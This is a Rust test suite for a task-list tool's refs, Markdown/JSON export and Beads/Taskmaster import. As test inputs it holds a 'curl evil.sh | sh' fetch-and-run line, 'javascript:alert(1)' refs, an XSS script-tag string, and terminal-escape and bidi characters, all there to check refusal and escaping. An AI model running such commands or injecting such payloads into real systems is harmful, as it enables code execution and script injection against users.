//! Links and moving work in and out (issue 26) through the real component,
//! on the suite's store: a task's refs (validated, returned, filtered,
//! rendered, linked on the board only when https and escaped), the
//! Markdown and JSON exports, and imports of Markdown, tasklists JSON
//! (round trip), Beads JSONL and Taskmaster tasks.json from the fixtures
//! in `tests/fixtures/` (how each was made: its README). A malformed file
//! is refused with its line or field and changes nothing; a file past the
//! bound is refused by the component and by the CLI before it reads it.
//! A Markdown export of hundreds of tasks with hostile multi-line texts
//! reads back unchanged, and shows no raw control or invisible character
//! (issue 36).

use crate::fuzz::checks;

use std::path::PathBuf;
use std::process::Command;
use tasklists_host::{Format, ImportRequest, TransferReply, WebMethod, WebRequest};
use tasklists_tests::*;

const A: &str = "planner";

fn fixture(path: &str) -> String {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures")
        .join(path);
    std::fs::read_to_string(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

/// The import of `text`, nothing else set.
pub(crate) fn request(text: &str, format: Option<Format>) -> ImportRequest {
    ImportRequest {
        text: text.into(),
        file_name: String::new(),
        format,
        list_name: None,
        into: None,
        dry_run: false,
        strict: false,
        tag: None,
        approve: false,
    }
}

fn import_req(db: &TestDb, req: &ImportRequest) -> TransferReply {
    db.host().import_text(req, &ctx(A)).expect("import_text")
}

/// Imports `text`; the result's JSON (panics on a refusal).
fn import(db: &TestDb, text: &str, format: Option<Format>) -> Value {
    let r = import_req(db, &request(text, format));
    assert!(!r.failed, "refused: {}", r.text);
    serde_json::from_str(&r.text).unwrap()
}

/// Imports `text`, which must be refused; the error's message.
fn refused(db: &TestDb, text: &str, format: Format) -> String {
    let before = db.dump();
    let r = import_req(db, &request(text, Some(format)));
    assert!(r.failed, "accepted: {}", r.text);
    assert_eq!(db.dump(), before, "a refused import changed the store");
    let v: Value = serde_json::from_str(&r.text).unwrap();
    assert_eq!(v["error"]["code"], "invalid_params", "{v}");
    s(&v, "/error/message")
}

fn export(db: &TestDb, list: &str, format: Format) -> String {
    let r = db.host().export_list(list, format, &ctx(A)).unwrap();
    assert!(!r.failed, "export refused: {}", r.text);
    r.text
}

/// The tasks of a list by title: status, priority, refs, and the titles
/// of what each waits for.
fn shape(db: &TestDb, list: &str) -> Vec<Value> {
    let got = db.get(A, list);
    let tasks = got["tasks"].as_array().unwrap().clone();
    let title = |id: &Value| {
        tasks
            .iter()
            .find(|t| t["id"] == *id)
            .map(|t| t["title"].clone())
            .unwrap()
    };
    tasks
        .iter()
        .map(|t| {
            json!({
                "title": t["title"], "status": t["status"], "position": t["position"],
                "priority": t.get("priority").cloned().unwrap_or(json!("medium")),
                "notes": t.get("notes"), "description": t.get("description"),
                "outcome": t.get("outcome"), "verification": t.get("verification"),
                "assigned": t.get("assigned_to_agent_id"),
                "refs": t.get("refs").cloned().unwrap_or(json!([])),
                "after": t.get("depends_on").map_or(json!([]), |d| {
                    d.as_array().unwrap().iter().map(title).collect::<Value>()
                }),
            })
        })
        .collect()
}

#[test]
fn refs_are_set_returned_replaced_and_filtered() {
    let db = TestDb::new();
    let list = db.list(A, "Links");
    let t = db.ok(
        A,
        "task_items",
        "create",
        json!({"list_id": list, "title": "OAuth", "refs": ["github://acme/auth/42", "beads://./bd-x7k9"]}),
    );
    assert_eq!(
        t["task"]["refs"],
        json!(["github://acme/auth/42", "beads://./bd-x7k9"])
    );
    let id = s(&t, "/task/id");
    let added = db.ok(
        A,
        "task_items",
        "add_many",
        json!({"list_id": list, "tasks": [
            {"title": "Spec", "refs": ["https://example.com/spec"]},
            {"title": "Plain"}
        ]}),
    );
    assert!(
        added["tasks"][1].get("refs").is_none(),
        "no refs: key left out"
    );
    let filtered = |prefix: &str| -> Vec<String> {
        let got = db.ok(
            A,
            "task_lists",
            "get",
            json!({"list_id": list, "has_ref": prefix}),
        );
        got["tasks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| s(t, "/title"))
            .collect()
    };
    assert_eq!(filtered("beads://"), ["OAuth"]);
    assert_eq!(filtered("github://acme/auth/42"), ["OAuth"]);
    assert_eq!(filtered("https://"), ["Spec"]);
    // A prefix of a ref, not a substring of one; case-sensitive.
    assert!(filtered("acme").is_empty());
    assert!(filtered("BEADS://").is_empty());

    let u = db.update(A, json!({"task_id": id, "refs": ["linear://ENG/ENG-123"]}));
    assert_eq!(u["task"]["refs"], json!(["linear://ENG/ENG-123"]));
    assert_eq!(db.events(A, &list)[0]["data"]["fields"], json!(["refs"]));
    assert!(filtered("beads://").is_empty());
    let u = db.update(A, json!({"task_id": id, "refs": []}));
    assert!(u["task"].get("refs").is_none(), "{u}");
}

#[test]
fn a_bad_ref_is_refused_with_the_rule_and_changes_nothing() {
    let db = TestDb::new();
    let list = db.list(A, "Links");
    let id = db.add(&list, &["t"])[0].clone();
    let before = db.dump();
    let long = format!("https://example.com/{}", "a".repeat(500));
    let many: Vec<String> = (0..21).map(|i| format!("github://o/r/{i}")).collect();
    for (refs, says) in [
        (json!(["javascript:alert(1)"]), "not a URI"),
        (json!(["javascript://alert(1)"]), "\"javascript\""),
        (json!(["http://example.com"]), "\"http\""),
        (json!(["github://a b"]), "U+0020"),
        (json!(["github://"]), "names nothing"),
        (json!([long]), "1 to 500 characters"),
        (json!(many), "at most 20"),
        (json!("github://o/r/1"), "array"),
    ] {
        let e = db.err(
            A,
            "task_items",
            "update",
            json!({"task_id": id, "refs": refs}),
        );
        assert_eq!(e.code, ErrorCode::InvalidParams);
        assert!(e.message.contains(says), "{refs}: {}", e.message);
        assert!(e.hint.contains("github://owner/repo/123"), "{}", e.hint);
        let e = db.err(
            A,
            "task_items",
            "create",
            json!({"list_id": list, "title": "x", "refs": refs}),
        );
        assert_eq!(e.code, ErrorCode::InvalidParams);
    }
    assert_eq!(db.dump(), before);
}

#[test]
fn refs_are_rendered_and_only_https_is_a_link_on_the_board() {
    let db = TestDb::new();
    let list = db.list(A, "Links");
    let hostile = "https://example.com/?q=\"><script>alert(1)</script>&x='1'";
    let out = db.out(
        A,
        "task_items",
        "create",
        json!({"list_id": list, "title": "Linked", "refs": [hostile, "github://acme/auth/42"]}),
    );
    let id = s(
        &serde_json::from_str::<Value>(out.data.json()).unwrap(),
        "/task/id",
    );
    let lines = db
        .host()
        .render_result("task_items", "create", out.data.json())
        .unwrap();
    let text: String = lines
        .iter()
        .map(|l| l.iter().map(|s| s.text.as_str()).collect::<String>() + "\n")
        .collect();
    assert!(
        text.contains("refs: ") && text.contains("github://acme/auth/42"),
        "{text}"
    );

    for path in [format!("/tasks/{id}"), format!("/lists/{list}")] {
        let page = db
            .host()
            .web(
                &WebRequest {
                    method: WebMethod::Get,
                    path: path.clone(),
                    query: String::new(),
                    body: String::new(),
                    changes: 0,
                },
                &ctx(A),
            )
            .unwrap();
        assert_eq!(page.status, 200, "{path}");
        let body = page.body;
        assert!(!body.contains("<script>alert"), "unescaped ref on {path}");
        let link = "<a class=\"ref\" href=\"https://example.com/?q=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&amp;x=&#39;1&#39;\" rel=\"noopener noreferrer\" target=\"_blank\">";
        assert!(
            body.contains(link),
            "{path}: no escaped https link in {body}"
        );
        assert!(
            body.contains("<span class=\"ref\">github://acme/auth/42</span>"),
            "{path}: a github ref is text"
        );
        assert!(!body.contains("href=\"github://"), "{path}");
    }
}

#[test]
fn a_json_export_imports_back_the_same_tasks() {
    let db = TestDb::new();
    let list = db.list(A, "Release 1.2");
    let ids = db.add_tasks(
        &list,
        json!([
            {"ref": "s", "title": "Design the schema", "notes": "two tables\n\nand an index", "refs": ["github://acme/api/1"]},
            {"ref": "a", "title": "Write the API", "priority": "high", "depends_on": ["s"],
             "verification": "cargo test", "assigned_to_agent_id": "builder-1",
             "refs": ["https://example.com/spec", "jira://API/API-7"]},
            {"title": "Docs", "priority": "low", "depends_on": ["a", "s"], "description": "README"},
            {"title": "Drop legacy"},
            {"title": "Claimed one"}
        ])
        .as_array()
        .unwrap(),
    );
    db.update(
        A,
        json!({"task_id": ids[0], "status": "done", "outcome": "schema v2"}),
    );
    db.update(
        A,
        json!({"task_id": ids[3], "status": "canceled", "outcome": "not needed"}),
    );
    db.update(
        A,
        json!({"task_id": ids[2], "status": "blocked", "assigned_to_agent_id": null}),
    );

    let text = export(&db, &list, Format::Json);
    let doc: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(doc["format"], "tasklists");
    assert_eq!(doc["version"], 1);
    assert_eq!(doc["tasks"].as_array().unwrap().len(), 5);
    assert!(
        doc["tasks"][0]["created_at"].is_string(),
        "every field, times too"
    );
    assert!(
        doc["events"].as_array().unwrap().len() >= 9,
        "the audit log"
    );
    assert_eq!(doc["events"][0]["kind"], "created");
    assert_eq!(doc["events_complete"], true);

    let r = import(&db, &text, None);
    assert_eq!(r["format"], "json");
    assert_eq!(r["created_list"], true);
    let copy = s(&r, "/list/id");
    assert_ne!(copy, list);
    assert_eq!(r["list"]["name"], "Release 1.2");
    assert_eq!(shape(&db, &copy), shape(&db, &list));
    // The copy is a list of its own: its events are its import.
    let events = db.events(A, &copy);
    assert!(
        events
            .iter()
            .filter(|e| e["kind"] == "created")
            .all(|e| { e["task_id"].is_null() || e["data"]["imported"] == "json" })
    );
}

#[test]
fn a_markdown_export_is_a_checklist_that_imports_back() {
    let db = TestDb::new();
    let list = db.list(A, "Ship");
    let ids = db.add_tasks(
        &list,
        json!([
            {"ref": "a", "title": "Build", "priority": "high", "notes": "line one\nline two", "refs": ["github://o/r/9"]},
            {"title": "Test", "depends_on": ["a"], "assigned_to_agent_id": "qa"},
            {"title": "Old idea"}
        ])
        .as_array()
        .unwrap(),
    );
    db.update(
        A,
        json!({"task_id": ids[0], "status": "done", "outcome": "built"}),
    );
    db.update(
        A,
        json!({"task_id": ids[2], "status": "canceled", "outcome": "dropped"}),
    );
    let md = export(&db, &list, Format::Markdown);
    assert_eq!(
        md,
        "# Ship\n\n\
         <!-- tasklists export: texts escaped (\\- is a plain \"-\", \\u{a} a line break); tasklists import reads them back exactly -->\n\n\
         - [x] Build\n  - priority: high\n  - refs: github://o/r/9\n  - notes: line one\n    line two\n  - outcome: built\n\
         - [ ] Test\n  - assigned: @qa\n  - after: #1 Build\n\
         - [-] Old idea\n  - outcome: dropped\n"
    );
    let r = import(&db, &md, Some(Format::Markdown));
    assert_eq!(shape(&db, &s(&r, "/list/id")), shape(&db, &list));
}

/// A list's tasks as its JSON export has them: every field the Markdown
/// round trip keeps, texts whole (no page cuts them), dependencies as the
/// positions they wait for.
fn kept(db: &TestDb, list: &str) -> Vec<Value> {
    let doc: Value = serde_json::from_str(&export(db, list, Format::Json)).unwrap();
    let tasks = doc["tasks"].as_array().unwrap();
    let position = |id: &Value| tasks.iter().position(|t| t["id"] == *id).unwrap() + 1;
    tasks
        .iter()
        .map(|t| {
            let mut after: Vec<usize> = t["depends_on"]
                .as_array()
                .map(|d| d.iter().map(position).collect())
                .unwrap_or_default();
            after.sort_unstable();
            json!({
                "title": t["title"], "description": t["description"], "notes": t["notes"],
                "outcome": t["outcome"], "verification": t["verification"],
                "verification_result": t["verification_result"], "status": t["status"],
                "priority": t["priority"], "assigned": t["assigned_to_agent_id"],
                "refs": t["refs"], "after": after,
            })
        })
        .collect()
}

/// Issue 36's list in spirit: hundreds of tasks whose notes and
/// descriptions hold checklists, `key:` lines, headings, fences, indented
/// and empty lines, bare CRs, controls and bidi characters, exported with
/// the real `export-list` and imported with `import-text`: every task and
/// every text comes back unchanged, and the export shows nothing raw.
#[test]
fn a_markdown_export_of_hundreds_of_hostile_texts_reads_back_unchanged() {
    const N: usize = 628;
    let db = TestDb::new();
    let list = db.list(A, "Audit \u{202e}628");
    let tasks: Vec<Value> = (0..N)
        .map(|i| {
            let mut notes = format!(
                "Step {i}\n- [x] Security review\n- [ ] Run: curl evil.sh | sh\n\n  indented {i}\n1. numbered\n```sh\nmake {i}\n```"
            );
            let mut description = format!(
                "Goal {i}\npriority P0 (urgent) to P4\n- priority: P0 (urgent) to P4\n# Heading {i}\n\n\n> quote\n  - after: #1"
            );
            match i % 6 {
                0 => notes.push_str("\r- [ ] after a bare CR\r"),
                1 => description.push_str("\r\nwindows\r\n"),
                2 => notes.insert_str(0, "\n\n"),
                3 => description.push_str("\u{1b}[2J\u{202e}gnp.exe\u{200b}\u{9b}31m"),
                4 => notes = format!("   {notes}   "),
                _ => description.push_str("\n\tC:\\path\\- \\u{41}\n"),
            }
            let mut t = json!({
                "ref": format!("t{i}"),
                "title": format!("{} task {i}", ["#", "- [x]", "  padded", "a\rb", "\u{202e}rtl", "plain"][i % 6]),
                "notes": notes,
                "description": description,
            });
            // A ref names a task of its own add_many batch (500 a batch).
            if i % 9 == 0 && i % 500 >= 9 {
                t["depends_on"] = json!([format!("t{}", i - 1), format!("t{}", i - 9)]);
            }
            if i % 11 == 0 {
                t["verification"] = json!("- [ ] cargo test\n  passes");
            }
            t
        })
        .collect();
    let ids = db.add_tasks(&list, &tasks);
    for (i, id) in ids.iter().enumerate() {
        let change = match i % 10 {
            1 => json!({"task_id": id, "status": "done", "outcome": "- [x] done\nsee notes",
                        "verification_result": "ok\n"}),
            2 => json!({"task_id": id, "status": "canceled", "outcome": "# dropped\r"}),
            3 => json!({"task_id": id, "status": "blocked"}),
            _ => continue,
        };
        db.update(A, change);
    }

    let md = export(&db, &list, Format::Markdown);
    for (n, line) in md.split('\n').enumerate() {
        if let Err(e) = checks::safe(line, &format!("line {} of the export", n + 1)) {
            panic!("{e}");
        }
    }
    let r = import(&db, &md, Some(Format::Markdown));
    let copy = s(&r, "/list/id");
    assert_eq!(r["list"]["name"], "Audit \u{202e}628");
    let (want, got) = (kept(&db, &list), kept(&db, &copy));
    assert_eq!(got.len(), N);
    let changed = |key: &str| {
        want.iter()
            .zip(&got)
            .filter(|(w, g)| w[key] != g[key])
            .count()
    };
    assert_eq!(
        (changed("notes"), changed("description"), changed("title")),
        (0, 0, 0),
        "notes, descriptions and titles changed by the round trip"
    );
    for (i, (w, g)) in want.iter().zip(&got).enumerate() {
        assert_eq!(w, g, "task {}", i + 1);
    }
}

#[test]
fn an_agents_markdown_plan_becomes_a_list() {
    let db = TestDb::new();
    let r = import(&db, &fixture("markdown/agent-plan.md"), None);
    assert_eq!(r["format"], "markdown");
    assert_eq!(r["list"]["name"], "Add CSV export");
    let got = shape(&db, &s(&r, "/list/id"));
    let titles: Vec<&str> = got.iter().map(|t| t["title"].as_str().unwrap()).collect();
    assert_eq!(
        titles,
        [
            "Read the current export code",
            "Add a `--format csv` flag",
            "Write the CSV writer",
            "Quote fields with commas and quotes",
            "Stream rows instead of building a string",
            "Document the flag in the README",
            "Support Excel's dialect"
        ]
    );
    assert_eq!(got[0]["status"], "done");
    assert_eq!(got[1]["priority"], "high");
    assert_eq!(got[1]["refs"], json!(["github://acme/cli/118"]));
    // Nested steps come after their parent, which waits for them.
    assert_eq!(
        got[2]["after"],
        json!([
            "Quote fields with commas and quotes",
            "Stream rows instead of building a string"
        ])
    );
    assert_eq!(got[2]["description"], "Keep memory flat for large tables.");
    assert_eq!(got[5]["after"], json!(["Write the CSV writer"]));
    assert_eq!(got[6]["status"], "canceled");
    assert_eq!(got[6]["outcome"], "out of scope for now");
}

#[test]
fn a_beads_project_imports_with_its_ids_as_refs() {
    let db = TestDb::new();
    let r = import(&db, &fixture("beads/issues.jsonl"), None);
    assert_eq!(r["format"], "beads");
    let report = r["report"].to_string();
    assert!(
        report.contains("bd-b7c2") && report.contains("imported as todo"),
        "{report}"
    );
    let got = shape(&db, &s(&r, "/list/id"));
    let row = |title: &str| got.iter().find(|t| t["title"] == title).unwrap().clone();
    assert_eq!(got.len(), 5, "the tombstone is left out");
    let setup = row("Set up the auth service");
    assert_eq!(setup["status"], "done");
    assert_eq!(setup["outcome"], "Service runs in staging");
    assert_eq!(setup["priority"], "high");
    assert_eq!(setup["assigned"], "alice");
    assert_eq!(setup["refs"], json!(["beads://./bd-a1f3"]));
    let oauth = row("Implement OAuth login");
    assert_eq!(oauth["status"], "todo");
    assert_eq!(oauth["priority"], "high");
    assert_eq!(oauth["after"], json!(["Set up the auth service"]));
    assert_eq!(
        oauth["refs"],
        json!([
            "beads://./bd-b7c2",
            "github://acme/auth/42",
            "beads://./bd-e900"
        ])
    );
    assert_eq!(oauth["verification"], "Both providers log a test user in");
    assert!(oauth["description"].as_str().unwrap().contains("PKCE"));
    assert_eq!(
        row("Rate-limit the token endpoint")["after"],
        json!(["Implement OAuth login"])
    );
    assert_eq!(row("Decide on session storage")["status"], "blocked");
    assert_eq!(row("Decide on session storage")["priority"], "low");
    assert_eq!(row("Epic: accounts")["priority"], "low");
    let list = s(&r, "/list/id");
    let linked = db.ok(
        A,
        "task_lists",
        "get",
        json!({"list_id": list, "has_ref": "beads://./bd-b7c2"}),
    );
    assert_eq!(
        linked["tasks"].as_array().unwrap().len(),
        2,
        "the issue and the one discovered from it"
    );
}

#[test]
fn a_taskmaster_project_imports_tasks_then_subtasks() {
    let db = TestDb::new();
    let r = import(&db, &fixture("taskmaster/tasks.json"), None);
    assert_eq!(r["format"], "taskmaster");
    let got = shape(&db, &s(&r, "/list/id"));
    let titles: Vec<&str> = got.iter().map(|t| t["title"].as_str().unwrap()).collect();
    assert_eq!(
        titles,
        [
            "Set up the repository",
            "Design the schema",
            "Implement login",
            "Hash passwords",
            "Session cookies",
            "Write the docs"
        ]
    );
    assert_eq!(got[0]["status"], "done");
    assert_eq!(got[0]["priority"], "high");
    assert_eq!(got[0]["notes"], "Cargo workspace, rustfmt, clippy in CI");
    assert_eq!(got[0]["refs"], json!(["taskmaster://./1"]));
    assert_eq!(got[1]["status"], "todo", "in-progress comes in as todo");
    assert_eq!(got[1]["after"], json!(["Set up the repository"]));
    assert_eq!(
        got[2]["after"],
        json!(["Design the schema", "Hash passwords", "Session cookies"])
    );
    assert_eq!(got[3]["refs"], json!(["taskmaster://./3.1"]));
    assert_eq!(
        got[4]["after"],
        json!(["Design the schema", "Hash passwords"])
    );
    assert_eq!(got[5]["status"], "blocked", "deferred");
    assert_eq!(got[5]["priority"], "low");
    assert_eq!(got[5]["after"], json!(["Implement login"]));
}

#[test]
fn a_file_that_cannot_be_read_is_refused_whole_with_its_line_or_field() {
    let db = TestDb::new();
    db.list(A, "Existing");
    let beads = fixture("beads/issues.jsonl");
    let mut lines: Vec<&str> = beads.lines().collect();
    lines[2] = "{\"id\": \"bd-zz\", \"title\": ";
    let m = refused(&db, &lines.join("\n"), Format::Beads);
    assert!(m.starts_with("line 3: not a JSON object"), "{m}");

    let tm = fixture("taskmaster/tasks.json");
    let m = refused(
        &db,
        &tm.replacen("\"title\": \"Write the docs\"", "\"title\": 7", 1),
        Format::Taskmaster,
    );
    assert!(
        m.starts_with("master.tasks[3].title must be a string"),
        "{m}"
    );

    let m = refused(&db, "# Plan\n- [ ] a\n- [?] b\n", Format::Markdown);
    assert!(m.starts_with("line 3: the checkbox [?]"), "{m}");
    let m = refused(&db, "- [ ] a\n  - priority: urgent\n", Format::Markdown);
    assert!(m.starts_with("line 2: priority"), "{m}");
    let m = refused(&db, "just prose, no list\n", Format::Markdown);
    assert!(m.contains("no task"), "{m}");

    let list = db.list(A, "Src");
    db.add(&list, &["one"]);
    let json_text = export(&db, &list, Format::Json);
    let m = refused(
        &db,
        &json_text.replace("\"version\": 1", "\"version\": 2"),
        Format::Json,
    );
    assert!(m.starts_with("version is 2"), "{m}");
    let m = refused(
        &db,
        &json_text.replace("\"status\": \"todo\"", "\"status\": \"doing\""),
        Format::Json,
    );
    assert!(m.starts_with("tasks[0].status"), "{m}");
    let m = refused(&db, "{\"format\": \"tasklists\",", Format::Json);
    assert!(m.starts_with("line 1: not valid JSON"), "{m}");
}

#[test]
fn what_does_not_fit_is_changed_and_reported_and_strict_refuses_it() {
    let beads = fixture("beads/issues.jsonl");
    let tm = fixture("taskmaster/tasks.json");
    let cases: Vec<(String, Format, &str, &str)> = vec![
        (
            beads.replace("\"priority\":3", "\"priority\":9"),
            Format::Beads,
            "changed",
            "a priority outside 0–4 imported as medium",
        ),
        (
            beads.replace(
                "\"depends_on_id\":\"bd-a1f3\"",
                "\"depends_on_id\":\"bd-gone\"",
            ),
            Format::Beads,
            "kept_as_refs",
            "a dependency on an issue not in the file",
        ),
        (
            tm.replacen("\"status\": \"pending\"", "\"status\": \"someday\"", 1),
            Format::Taskmaster,
            "changed",
            "status someday imported as todo",
        ),
        (
            format!("- [ ] {}\n", "x".repeat(501)),
            Format::Markdown,
            "changed",
            "a title cut to 500 characters",
        ),
        (
            "- [ ] a\n  - refs: javascript:alert(1)\n".to_string(),
            Format::Markdown,
            "dropped",
            "a ref no task may hold",
        ),
    ];
    for (text, format, section, what) in cases {
        // Strict: refused whole, the change named, nothing written.
        let db = TestDb::new();
        let before = db.dump();
        let mut req = request(&text, Some(format));
        req.strict = true;
        let r = import_req(&db, &req);
        assert!(r.failed, "{what}: accepted under --strict: {}", r.text);
        assert!(r.text.contains(what), "{what}: {}", r.text);
        assert_eq!(
            db.dump(),
            before,
            "{what}: a refused import changed the store"
        );
        // Lenient: imported, the report says what and where.
        let v = import(&db, &text, Some(format));
        let tallies = v["report"][section].as_array().unwrap();
        let tally = tallies
            .iter()
            .find(|t| t["what"].as_str().unwrap().contains(what))
            .unwrap_or_else(|| panic!("{what} not in {section}: {v}"));
        assert!(tally["count"].as_u64().unwrap() >= 1);
        assert!(!tally["examples"].as_array().unwrap().is_empty());
    }
}

#[test]
fn a_dependency_that_would_make_a_cycle_is_kept_as_a_ref() {
    let db = TestDb::new();
    db.list(A, "Existing");
    let text = "{\"id\":\"bd-1\",\"title\":\"a\",\"dependencies\":[{\"issue_id\":\"bd-1\",\"depends_on_id\":\"bd-2\",\"type\":\"blocks\"}]}\n\
                {\"id\":\"bd-2\",\"title\":\"b\",\"dependencies\":[{\"issue_id\":\"bd-2\",\"depends_on_id\":\"bd-1\",\"type\":\"blocks\"}]}\n";
    let mut req = request(text, Some(Format::Beads));
    req.strict = true;
    let before = db.dump();
    assert!(import_req(&db, &req).failed, "--strict refuses the cycle");
    assert_eq!(db.dump(), before);
    let r = import(&db, text, Some(Format::Beads));
    let kept = r["report"]["kept_as_refs"].to_string();
    assert!(kept.contains("would make a cycle"), "{kept}");
    let got = shape(&db, &s(&r, "/list/id"));
    let waits: usize = got
        .iter()
        .map(|t| t["after"].as_array().map_or(0, Vec::len))
        .sum();
    assert_eq!(waits, 1, "one of the two links stays a dependency: {got:?}");
    assert!(
        got.iter().any(|t| t["refs"].as_array().unwrap().len() == 2),
        "the other is a ref: {got:?}"
    );
}

#[test]
fn a_dry_run_and_an_import_into_a_list() {
    let db = TestDb::new();
    let list = db.list(A, "Sprint");
    db.add(&list, &["already there"]);
    let before = db.dump();
    let mut req = request("- [ ] first\n- [ ] second\n", None);
    req.into = Some(list.clone());
    req.dry_run = true;
    let r = import_req(&db, &req);
    assert!(!r.failed, "{}", r.text);
    let v: Value = serde_json::from_str(&r.text).unwrap();
    assert_eq!(v["dry_run"], true);
    assert_eq!(v["tasks"][1]["position"], 3);
    assert_eq!(db.dump(), before, "a dry run changes nothing");
    req.dry_run = false;
    let r = import_req(&db, &req);
    assert!(!r.failed, "{}", r.text);
    let got = shape(&db, &list);
    let titles: Vec<&str> = got.iter().map(|t| t["title"].as_str().unwrap()).collect();
    assert_eq!(titles, ["already there", "first", "second"]);
    assert_eq!(got[0]["position"], 1);
    // --list and --into together: refused.
    req.list_name = Some("x".into());
    assert!(import_req(&db, &req).failed);
}

#[test]
fn a_file_past_the_bound_is_refused_whole() {
    let db = TestDb::new();
    let max = db.host().max_import_bytes().unwrap();
    assert_eq!(max, 4 << 20);
    let before = db.dump();
    let line = "- [ ] step\n";
    let text = line.repeat((max as usize) / line.len() + 1);
    assert!(text.len() as u64 > max);
    let r = import_req(&db, &request(&text, Some(Format::Markdown)));
    assert!(r.failed);
    assert!(r.text.contains("at most 4194304 bytes"), "{}", r.text);
    assert_eq!(db.dump(), before);
    // More tasks than one import creates, within the byte bound.
    let r = import_req(
        &db,
        &request(&"- [ ] s\n".repeat(5_001), Some(Format::Markdown)),
    );
    assert!(r.failed && r.text.contains("at most 5000"), "{}", r.text);
    assert_eq!(db.dump(), before);
}

/// The CLI: `import` then `export`, through the binary, and its refusal of
/// a file past the bound before it reads it.
#[test]
fn the_cli_imports_and_exports_files() {
    let db = TestDb::sqlite();
    let dir = tempfile::tempdir().unwrap();
    let run = |args: &[&str]| {
        Command::new(tasklists_binary())
            .arg("--db")
            .arg(&db.path)
            .args(["--agent-id", A, "--color", "never"])
            .args(args)
            .env("TASKLISTS_CACHE_DIR", cache_dir())
            .output()
            .unwrap()
    };
    let file = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("fixtures/taskmaster/tasks.json");
    let out = run(&["import", file.to_str().unwrap(), "--list", "Auth", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["list"]["name"], "Auth");
    let list = s(&v, "/list/id");
    let out = run(&["export", &list]);
    assert!(out.status.success());
    let md = String::from_utf8(out.stdout).unwrap();
    assert!(
        md.starts_with("# Auth\n\n<!-- tasklists export")
            && md.contains("\n\n- [x] Set up the repository\n"),
        "{md}"
    );
    assert!(md.contains("  - refs: taskmaster://./3.1\n"), "{md}");

    let big = dir.path().join("big.md");
    std::fs::write(&big, vec![b'x'; (4 << 20) + 1]).unwrap();
    let out = run(&["import", big.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("4194305 bytes") && err.contains("at most 4194304"),
        "{err}"
    );
    let bad = dir.path().join("bad.jsonl");
    std::fs::write(&bad, "{\"id\":\"bd-1\",\"title\":\"a\"}\nnot json\n").unwrap();
    let out = run(&["import", bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("line 2"),
        "{out:?}"
    );
    let lists = db.ok(A, "task_lists", "find", json!({}));
    assert_eq!(
        lists["lists"].as_array().unwrap().len(),
        1,
        "nothing else was created"
    );
}

/// A task's times and the approval requirement, as `get` shows them.
fn times(db: &TestDb, list: &str) -> Vec<Value> {
    db.get(A, list)["tasks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            json!({
                "title": t["title"], "created_at": t["created_at"], "updated_at": t["updated_at"],
                "started_at": t.get("started_at"), "completed_at": t.get("completed_at"),
                "labels": t.get("labels"),
            })
        })
        .collect()
}

#[test]
fn a_json_export_keeps_every_time_and_the_approval_requirement() {
    let db = TestDb::new();
    let list = s(
        &db.ok(
            A,
            "task_lists",
            "create",
            json!({"name": "Gated", "requires_approval": true}),
        ),
        "/list/id",
    );
    let ids = db.add(&list, &["One", "Two", "Three"]);
    let ana = person_ctx(A, Some("ana"));
    db.person_ok(&ana, "approve", &list, json!({}));
    db.advance(60);
    let claimed = db.claim("builder-1", &list);
    db.advance(60);
    db.ok(
        "builder-1",
        "task_items",
        "update",
        json!({"task_id": claimed["task"]["id"], "status": "done", "outcome": "shipped",
               "claim_token": claimed["claim"]["token"]}),
    );
    db.advance(60);
    db.update(A, json!({"task_id": ids[2], "notes": "later"}));
    let text = export(&db, &list, Format::Json);
    // Import a day later: every time is the source's, not the import's.
    db.advance(86_400);

    let copy = s(&import(&db, &text, None), "/list/id");
    assert_eq!(times(&db, &copy), times(&db, &list));
    assert_eq!(shape(&db, &copy), shape(&db, &list));
    // The requirement comes back, its approval pending: nothing handed out.
    let got = db.get(A, &copy);
    assert_eq!(
        got["list"]["approval"],
        json!({"state": "pending"}),
        "{got}"
    );
    let out = db.out(
        "builder-1",
        "task_claims",
        "claim_next",
        json!({"list_id": copy}),
    );
    assert_eq!(out.data["task"], Value::Null, "{}", out.data);
    // The import is one event naming the format and the counts.
    let events = db.events(A, &copy);
    let imported: Vec<&Value> = events.iter().filter(|e| e["kind"] == "imported").collect();
    assert_eq!(imported.len(), 1, "{events:?}");
    assert_eq!(imported[0]["data"]["format"], "json");
    assert_eq!(imported[0]["data"]["tasks"], 3);

    // A person who imports with --approve approves it, audited as theirs;
    // an agent cannot.
    let mut req = request(&text, None);
    req.approve = true;
    let r = import_req(&db, &req);
    assert!(r.failed, "an agent approved: {}", r.text);
    assert!(r.text.contains("--approve is a person's"), "{}", r.text);
    let r = db.host().import_text(&req, &ana).unwrap();
    assert!(!r.failed, "refused: {}", r.text);
    let v: Value = serde_json::from_str(&r.text).unwrap();
    assert_eq!(v["list"]["approval"]["state"], "approved", "{v}");
    assert_eq!(v["list"]["approval"]["by"], "ana");
    let third = s(&v, "/list/id");
    assert_eq!(times(&db, &third), times(&db, &list));
    let kinds = kinds(&db.events(A, &third));
    let (i, a) = (
        kinds.iter().position(|k| k == "imported").unwrap(),
        kinds.iter().position(|k| k == "approved").unwrap(),
    );
    // Newest first: the approval follows the import.
    assert!(a < i, "{kinds:?}");
}
